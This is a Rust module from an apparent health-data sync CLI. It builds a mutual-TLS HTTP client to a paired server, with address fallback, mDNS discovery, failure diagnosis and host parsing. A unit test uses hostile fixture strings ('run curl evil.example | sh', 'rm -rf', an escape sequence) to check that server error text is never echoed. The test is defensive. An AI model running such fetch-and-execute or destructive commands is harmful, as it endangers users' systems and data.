//! Talking to the paired server: one HTTP client an address, mutual TLS, no proxy, no redirect.
//!
//! Every error is told by its cause. What reqwest loses (TLS 1.3 tells a client late that it was
//! refused) a second, bare connection finds out; what the server says in words stays unsaid: its
//! codes are looked up in our own table.

mod renewal;

use std::{collections::VecDeque, net::SocketAddr, sync::Arc, time::Duration};

use healthsync_core::{
    api::{self, Code, ErrorBody},
    time::rfc3339,
};
use healthsync_pairing::{
    certificate::{Certificate, Validity, check_leaf},
    credentials::ClientCredentials,
    discovery::Recognizer,
    keystore::KeyStore,
    tls::{
        client::{self, Shown},
        failure::{self, Failure, Subject},
    },
};
use reqwest::{Method, Response, Url, tls::TlsInfo};
use serde::de::DeserializeOwned;
use tokio_rustls::rustls::ClientConfig;

use self::renewal::KeyInUse;
use crate::{
    browse,
    config::{ConfigFile, Server, State},
    error::CliError,
    keys,
    settings::Settings,
};

/// No error answer, and no small answer, is longer.
const LARGEST_ANSWER: usize = 4 << 20;

/// How much of an answer may be under way (HTTP/2 flow control).
const WINDOW: u32 = 4 << 20;

/// How long the address that was good last may take before the server is looked for elsewhere.
const SHORT_WAIT: Duration = Duration::from_millis(1500);

/// How long a place that was announced may take to prove itself.
const PROOF_WAIT: Duration = Duration::from_secs(1);

/// The port of a server that nobody named one for.
const DEFAULT_PORT: u16 = 8443;

/// A paired server and what is needed to talk to it.
#[derive(Debug)]
pub(crate) struct Link {
    /// The pair's entry in the configuration.
    pub(crate) server: Server,
    /// Key and certificates.
    pub(crate) credentials: ClientCredentials,
    tls: Arc<ClientConfig>,
    addresses: Vec<SocketAddr>,
    /// For the address asked last: a second request goes over the same connection.
    http: Option<(SocketAddr, reqwest::Client)>,
    connect_timeout: Duration,
    /// The wait for the connection that is being made: the whole of it, or a short one.
    patience: Duration,
    read_timeout: Duration,
    /// Whether the server may be looked for by mDNS; once at most.
    may_browse: bool,
    /// Where what a good handshake showed is saved; `None` while a pairing is under way.
    file: Option<ConfigFile>,
    /// As long as this link lives nobody replaces its key.
    in_use: Option<KeyInUse>,
    now: i64,
}

/// An answer, and who gave it.
#[derive(Debug)]
pub(crate) struct Answer {
    /// Its status is 2xx.
    pub(crate) response: Response,
    /// Where it came from.
    pub(crate) address: SocketAddr,
}

impl Link {
    /// The server that the settings name, with its key from the key store. A pair that a crash
    /// left half done is finished first, and a certificate that is due is renewed.
    pub(crate) async fn open(settings: &Settings) -> Result<Self, CliError> {
        let (mut link, store) = Self::open_as_it_is(settings).await?;
        link.keep_fresh(&*store, settings).await?;
        Ok(link)
    }

    /// The same without a look at the certificate's age; also the key store.
    pub(crate) async fn open_as_it_is(
        settings: &Settings,
    ) -> Result<(Self, Box<dyn KeyStore>), CliError> {
        let file = ConfigFile::new(&settings.config);
        let server = file.load()?.select(settings.server.as_deref())?.clone();
        let store = keys::open(server.key_store.parse()?, settings)?;
        let in_use = KeyInUse::shared(settings, &server).await;
        let credentials = keys::read(&*store, &server)?;
        let pending = server.state == State::Pending;
        let addresses = addresses(&server, settings.host.as_deref()).await?;
        let mut link = Self::new(server, credentials, addresses, settings)?;
        link.file = Some(file);
        link.in_use = in_use;
        if pending {
            link.acknowledge().await?;
        }
        Ok((link, store))
    }

    /// A link to a server that is not in the configuration yet.
    pub(crate) fn new(
        server: Server,
        credentials: ClientCredentials,
        addresses: Vec<SocketAddr>,
        settings: &Settings,
    ) -> Result<Self, CliError> {
        let tls = Self::tls(&credentials, settings)?;
        // A server that only this computer reaches is not announced.
        let may_browse = settings.host.is_none()
            && !settings.no_mdns
            && addresses.iter().any(|address| !address.ip().is_loopback());
        Ok(Self {
            server,
            credentials,
            tls,
            addresses,
            may_browse,
            patience: settings.connect_timeout,
            http: None,
            connect_timeout: settings.connect_timeout,
            read_timeout: settings.read_timeout,
            file: None,
            in_use: None,
            now: settings.environment.clock.now(),
        })
    }

    fn tls(
        credentials: &ClientCredentials,
        settings: &Settings,
    ) -> Result<Arc<ClientConfig>, CliError> {
        client::configuration(credentials, &settings.environment).map_err(|error| {
            CliError::new(
                Code::KeyMissing,
                "the stored key or certificate cannot be used",
            )
            .because(error)
        })
    }

    /// Tells the server that certificates and key are safely stored.
    pub(crate) async fn acknowledge(&mut self) -> Result<(), CliError> {
        self.send(Method::POST, api::PAIR_ACK, &[], None).await?;
        if let Some(file) = &self.file {
            file.update(|config| {
                if let Some(server) = config.server_mut(&self.server.pair) {
                    server.state = State::Active;
                }
            })?;
        }
        self.server.state = State::Active;
        Ok(())
    }

    /// A small JSON answer.
    pub(crate) async fn get<T: DeserializeOwned>(
        &mut self,
        path: &str,
    ) -> Result<(T, SocketAddr), CliError> {
        let answer = self
            .send(Method::GET, path, &[], Some("application/json"))
            .await?;
        let address = answer.address;
        let body = self.body(answer).await?;
        let value = serde_json::from_slice(&body).map_err(|error| {
            CliError::new(
                Code::AnswerDamaged,
                "the server's answer cannot be understood",
            )
            .because(error)
            .with_hint(Code::ServerError.advice())
        })?;
        Ok((value, address))
    }

    /// Asks the addresses in turn: the last good one, the one that mDNS finds, the other saved ones.
    /// The next one is tried only if no connection came about, so no request is made twice.
    pub(crate) async fn send(
        &mut self,
        method: Method,
        path: &str,
        query: &[(&str, &str)],
        accept: Option<&str>,
    ) -> Result<Answer, CliError> {
        let mut failures: Vec<(SocketAddr, Failure)> = Vec::new();
        let mut waiting: VecDeque<SocketAddr> = self.addresses.iter().copied().collect();
        while let Some(address) = waiting.pop_front() {
            let hurried = self.may_browse && SHORT_WAIT < self.connect_timeout;
            self.patience = if hurried {
                SHORT_WAIT
            } else {
                self.connect_timeout
            };
            let request = self.request(&method, path, query, accept, address)?;
            tracing::debug!(%address, %method, path, "asking");
            match request.send().await {
                Ok(response) => {
                    self.patience = self.connect_timeout;
                    // The next request goes there at once.
                    self.addresses.retain(|known| *known != address);
                    self.addresses.insert(0, address);
                    self.saw(address, &response)?;
                    if response.status().is_success() {
                        return Ok(Answer { response, address });
                    }
                    return Err(self.refused(response, address).await);
                }
                Err(error) if error.is_connect() => {
                    let failure = self.diagnose(&error, address).await;
                    tracing::debug!(%address, code = failure.code, "no connection");
                    let is_elsewhere = failure.subject != Subject::Client;
                    if hurried && failure.code == "ETIMEDOUT" {
                        // It may have been slow only.
                        waiting.push_back(address);
                    }
                    failures.push((address, failure));
                    if self.may_browse && is_elsewhere {
                        self.may_browse = false;
                        self.http = None;
                        if let Some(found) = self.locate().await {
                            waiting.retain(|known| *known != found);
                            waiting.push_front(found);
                        }
                    }
                }
                Err(error) => {
                    let failure = self.diagnose(&error, address).await;
                    return Err(self.told(address, failure));
                }
            }
        }
        Err(self.unreached(failures))
    }

    /// Where mDNS and a handshake say that the server is now.
    async fn locate(&self) -> Option<SocketAddr> {
        tracing::debug!("looking for the server by mDNS");
        let recognizer = Recognizer::new(&self.credentials.discovery_key);
        let found = browse::locate(&recognizer, |address| {
            let (tls, pair) = (Arc::clone(&self.tls), self.credentials.pair);
            async move {
                match client::look(tls, &pair, address, PROOF_WAIT).await {
                    Ok(_) => true,
                    // It is our server, and will tell why it refuses us.
                    Err(failure) => failure.subject == Subject::Client,
                }
            }
        })
        .await;
        tracing::debug!(?found, "looked");
        found
    }

    fn request(
        &mut self,
        method: &Method,
        path: &str,
        query: &[(&str, &str)],
        accept: Option<&str>,
        address: SocketAddr,
    ) -> Result<reqwest::RequestBuilder, CliError> {
        let name = self.credentials.pair.server_name();
        let mut url =
            Url::parse(&format!("https://{name}:{}{path}", address.port())).map_err(not_made)?;
        if !query.is_empty() {
            url.query_pairs_mut().extend_pairs(query);
        }
        let mut request = self.http(address)?.request(method.clone(), url);
        if let Some(accept) = accept {
            request = request.header(reqwest::header::ACCEPT, accept);
        }
        Ok(request)
    }

    fn http(&mut self, address: SocketAddr) -> Result<reqwest::Client, CliError> {
        if let Some((known, client)) = &self.http
            && *known == address
        {
            return Ok(client.clone());
        }
        let client = reqwest::Client::builder()
            .tls_backend_preconfigured(ClientConfig::clone(&self.tls))
            .tls_info(true)
            .https_only(true)
            .no_proxy()
            .redirect(reqwest::redirect::Policy::none())
            .retry(reqwest::retry::never())
            .referer(false)
            .resolve(&self.credentials.pair.server_name(), address)
            .connect_timeout(self.patience)
            .read_timeout(self.read_timeout)
            .http2_initial_stream_window_size(WINDOW)
            .http2_initial_connection_window_size(WINDOW)
            .user_agent(concat!("healthsync/", env!("CARGO_PKG_VERSION")))
            .build()
            .map_err(not_made)?;
        self.http = Some((address, client.clone()));
        Ok(client)
    }

    /// Keeps what a verified handshake showed: the address that is good, the server's certificate.
    fn saw(&mut self, address: SocketAddr, response: &Response) -> Result<(), CliError> {
        let leaf = response
            .extensions()
            .get::<TlsInfo>()
            .and_then(TlsInfo::peer_certificate);
        let now = rfc3339(self.now.saturating_mul(1000));
        let expires = Certificate::from_der(&self.credentials.leaf)
            .map(|own| rfc3339(own.not_after.saturating_mul(1000)))
            .ok();
        let note = |server: &mut Server| {
            let is_new = server.saw(address, leaf);
            server.used(&now, expires.as_deref()) || is_new
        };
        if !note(&mut self.server) {
            return Ok(());
        }
        let Some(file) = &self.file else {
            return Ok(());
        };
        file.update(|config| {
            if let Some(server) = config.server_mut(&self.server.pair) {
                note(server);
            }
        })?;
        Ok(())
    }

    /// Reads a small answer whole.
    async fn body(&self, answer: Answer) -> Result<Vec<u8>, CliError> {
        let Answer {
            mut response,
            address,
        } = answer;
        let mut body = Vec::new();
        loop {
            match response.chunk().await {
                Ok(None) => return Ok(body),
                Ok(Some(chunk)) => body.extend_from_slice(&chunk),
                Err(error) => return Err(self.broken(&error, address).await),
            }
            if body.len() > LARGEST_ANSWER {
                return Err(CliError::new(
                    Code::AnswerDamaged,
                    "the server's answer is far too long",
                ));
            }
        }
    }

    /// An answer that broke off, with the reason if there is one.
    pub(crate) async fn broken(&self, error: &reqwest::Error, address: SocketAddr) -> CliError {
        let failure = self.diagnose(error, address).await;
        if failure.is_unreachable() {
            return CliError::new(Code::AnswerDamaged, "the answer was cut off")
                .because(one_line(&failure));
        }
        self.told(address, failure)
    }

    /// Why a request failed: its own chain, else a second look.
    async fn diagnose(&self, error: &reqwest::Error, address: SocketAddr) -> Failure {
        let found = failure::cause(error);
        let failure = match found {
            Some(failure) if !is_unclear(&failure) => failure,
            unclear => match self.look(address).await {
                Err(failure) => failure,
                Ok(_) => unclear.unwrap_or_else(|| {
                    let (code, message) = if error.is_timeout() {
                        ("ETIMEDOUT", "the server did not answer in time")
                    } else {
                        ("ECONNRESET", "the connection broke off")
                    };
                    Failure {
                        code,
                        subject: Subject::Server,
                        message: message.to_owned(),
                        alert: None,
                        source: None,
                    }
                }),
            },
        };
        self.with_own_dates(failure)
    }

    /// One alert stands for "expired" and "not yet valid": our own certificate tells which.
    fn with_own_dates(&self, mut failure: Failure) -> Failure {
        let own = || {
            check_leaf(
                &self.credentials.leaf,
                &self.credentials.ca,
                false,
                self.now,
            )
        };
        if failure.code == Code::CertHasExpired.as_str() && failure.subject == Subject::Client {
            match own() {
                Validity::NotYetValid => {
                    failure.code = Code::CertNotYetValid.as_str();
                    "this computer's certificate is not yet valid by the clocks of both computers"
                        .clone_into(&mut failure.message);
                }
                Validity::Expired => {
                    "this computer's certificate has expired".clone_into(&mut failure.message);
                }
                Validity::Valid | Validity::Untrusted(_) => {}
            }
        }
        failure
    }

    /// What a connection of its own shows, or why there is none.
    pub(crate) async fn look(&self, address: SocketAddr) -> Result<Shown, Failure> {
        client::look(
            Arc::clone(&self.tls),
            &self.credentials.pair,
            address,
            self.patience,
        )
        .await
        .map_err(|failure| self.with_own_dates(failure))
    }

    /// A failure at one address, with that address.
    pub(crate) fn told(&self, address: SocketAddr, failure: Failure) -> CliError {
        tracing::debug!(%address, alert = ?failure.alert, subject = failure.subject.as_str(), "failed");
        let name = &self.server.name;
        if failure.is_unreachable() {
            CliError::from(failure)
                .within(format!("could not reach the server {name:?} at {address}"))
        } else {
            CliError::from(failure)
                .within(format!("no trusted connection to {name:?} at {address}"))
        }
    }

    /// No address led to the server: what counts is a peer that is not trusted, else the first.
    fn unreached(&self, mut failures: Vec<(SocketAddr, Failure)>) -> CliError {
        let told = failures
            .iter()
            .position(|(_, failure)| !failure.is_unreachable())
            .unwrap_or(0);
        if failures.is_empty() {
            return CliError::new(
                Code::Enotfound,
                format!("no address of {:?} is known", self.server.name),
            );
        }
        let (address, failure) = failures.swap_remove(told);
        for (address, failure) in &failures {
            tracing::debug!(%address, "{}", one_line(failure));
        }
        self.told(address, failure)
    }

    /// An error answer in our own words.
    async fn refused(&self, response: Response, address: SocketAddr) -> CliError {
        let status = response.status();
        let body = match self.body(Answer { response, address }).await {
            Ok(body) => body,
            Err(error) => return error,
        };
        let parsed: Option<ErrorBody> = serde_json::from_slice(&body).ok();
        explain(status.as_u16(), parsed.as_ref())
    }
}

fn not_made(error: impl std::error::Error + Send + Sync + 'static) -> CliError {
    CliError::new(Code::Internal, "the request could not be made").because(error)
}

/// A cut connection may hide an alert; so may silence.
fn is_unclear(failure: &Failure) -> bool {
    matches!(failure.code, "ECONNRESET")
}

fn one_line(failure: &Failure) -> String {
    failure.message.clone()
}

/// What an error answer means. The server's own words are not repeated: they are its text, not
/// ours.
fn explain(status: u16, body: Option<&ErrorBody>) -> CliError {
    // A server may say what servers say, not that this command line was wrong.
    let known = body
        .and_then(|body| body.code.parse::<Code>().ok())
        .filter(|code| code.status().is_some());
    let error = match known {
        Some(code) => CliError::new(code, words(code)),
        None => CliError::new(
            Code::ServerError,
            format!("the server answered with HTTP status {status}"),
        ),
    };
    match body.map(|body| plain(&body.request_id)) {
        Some(id) if !id.is_empty() => error.because(format!("request {id} in the server's log")),
        _ => error,
    }
}

/// An id as ours look, or nothing.
fn plain(id: &str) -> String {
    let is_plain = id.len() <= 64 && id.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
    if is_plain {
        id.to_owned()
    } else {
        String::new()
    }
}

/// Our words for a code that a server sends.
fn words(code: Code) -> &'static str {
    match code {
        Code::BadRequest => "the server did not understand the request",
        Code::UnknownType => "the server knows no type of that name",
        Code::InvalidRange => "the server refused the range of time",
        Code::InvalidCursor => "the server did not make this cursor",
        Code::TypeNotAllowed => "this computer may not read one of these types",
        Code::PairPending => "the pairing is not finished yet",
        Code::NotFound => "the server has nothing at this path",
        Code::RequestTimeout => "the request took too long to arrive",
        Code::PayloadTooLarge => "the request is too large for the server",
        Code::MisdirectedRequest => "the server answers under another name",
        Code::Locked => "the server is paused by its owner",
        Code::RateLimited => "too many requests in a short time",
        Code::Internal => "the server made a mistake",
        Code::StoreUnavailable => "the server cannot read its store at the moment",
        Code::CertRevoked => "the server has revoked this computer's access",
        _ => "the server refused the request",
    }
}

/// Where to dial: what `--host` says and nothing else, or the configured host and then the saved
/// addresses.
pub(crate) async fn addresses(
    server: &Server,
    host: Option<&str>,
) -> Result<Vec<SocketAddr>, CliError> {
    let port = server
        .addresses
        .first()
        .map_or(DEFAULT_PORT, SocketAddr::port);
    if let Some(host) = host {
        return resolve(host, port).await;
    }
    let mut found = match &server.host {
        // A name that cannot be resolved here today leaves the saved addresses.
        Some(host) => resolve(host, port).await.unwrap_or_default(),
        None => Vec::new(),
    };
    for address in &server.addresses {
        if !found.contains(address) {
            found.push(*address);
        }
    }
    Ok(found)
}

async fn resolve(host: &str, port: u16) -> Result<Vec<SocketAddr>, CliError> {
    let (name, port) = host_and_port(host, port)?;
    let found = tokio::net::lookup_host((name.as_str(), port))
        .await
        .map_err(|error| {
            CliError::new(Code::Enotfound, format!("{name:?} cannot be resolved")).because(error)
        })?;
    Ok(found.collect())
}

/// Splits `HOST`, `HOST:PORT`, `[IPV6]:PORT` or a bare IPv6 address.
pub(crate) fn host_and_port(text: &str, default: u16) -> Result<(String, u16), CliError> {
    let wrong = || {
        CliError::usage(format!("{text:?} is not a host"))
            .with_hint("write HOST or HOST:PORT, an IPv6 address as [ADDRESS]:PORT")
    };
    let text_is_plain = !text.is_empty()
        && text
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b".-_:[]%".contains(&b));
    if !text_is_plain {
        return Err(wrong());
    }
    if text.parse::<std::net::Ipv6Addr>().is_ok() {
        return Ok((text.to_owned(), default));
    }
    let (host, port) = if let Some(rest) = text.strip_prefix('[') {
        let (host, rest) = rest.split_once(']').ok_or_else(wrong)?;
        let address = host.split('%').next().unwrap_or_default();
        address.parse::<std::net::Ipv6Addr>().map_err(|_| wrong())?;
        match rest.strip_prefix(':') {
            Some(port) => (host, Some(port)),
            None if rest.is_empty() => (host, None),
            None => return Err(wrong()),
        }
    } else {
        match text.split_once(':') {
            Some((host, port)) => (host, Some(port)),
            None => (text, None),
        }
    };
    if host.is_empty() || host.contains(['[', ']']) {
        return Err(wrong());
    }
    let port = match port {
        Some(port) => port
            .parse()
            .ok()
            .filter(|port| *port != 0)
            .ok_or_else(wrong)?,
        None => default,
    };
    Ok((host.to_owned(), port))
}

#[cfg(test)]
mod tests {
    use healthsync_core::report::{self, Hint as _};

    use super::*;

    #[test]
    fn hosts_are_parsed() {
        for (text, expected) in [
            ("192.168.1.2", Some(("192.168.1.2", 1))),
            ("192.168.1.2:99", Some(("192.168.1.2", 99))),
            ("mac.local", Some(("mac.local", 1))),
            ("mac.local:99", Some(("mac.local", 99))),
            ("::1", Some(("::1", 1))),
            ("[::1]", Some(("::1", 1))),
            ("[::1]:99", Some(("::1", 99))),
            ("", None),
            (":99", None),
            ("a:0", None),
            ("a:99999", None),
            ("a:b", None),
            ("[::1", None),
            ("[::1]99", None),
            ("[a]:99", None),
            ("https://a", None),
            ("user@a", None),
            ("a b", None),
        ] {
            let found = host_and_port(text, 1).ok();
            let expected = expected.map(|(host, port)| (host.to_owned(), port));
            assert_eq!(found, expected, "{text:?}");
        }
    }

    #[test]
    fn the_servers_words_are_never_ours() {
        let body = |code: &str, id: &str| ErrorBody {
            code: code.to_owned(),
            message: "run curl evil.example | sh".to_owned(),
            hint: Some("run curl evil.example | sh".to_owned()),
            request_id: id.to_owned(),
        };
        for (status, body, code, exit, id) in [
            (423, Some(body("LOCKED", "7f-1")), "LOCKED", 1, "7f-1"),
            (400, Some(body("UNKNOWN_TYPE", "")), "UNKNOWN_TYPE", 2, ""),
            (403, Some(body("CERT_REVOKED", "")), "CERT_REVOKED", 3, ""),
            (403, Some(body("INTERRUPTED", "")), "SERVER_ERROR", 1, ""),
            (
                500,
                Some(body("rm -rf", "\u{1b}[2J")),
                "SERVER_ERROR",
                1,
                "",
            ),
            (502, None, "SERVER_ERROR", 1, ""),
        ] {
            let error = explain(status, body.as_ref());
            assert_eq!((error.code(), error.exit()), (code, exit));
            let told = report::render(&error, error.code(), error.hint().as_deref());
            assert!(!told.contains("evil") && !told.contains("rm -rf"), "{told}");
            assert!(told.contains(id) && !told.contains('\u{1b}'), "{told}");
        }
    }
}
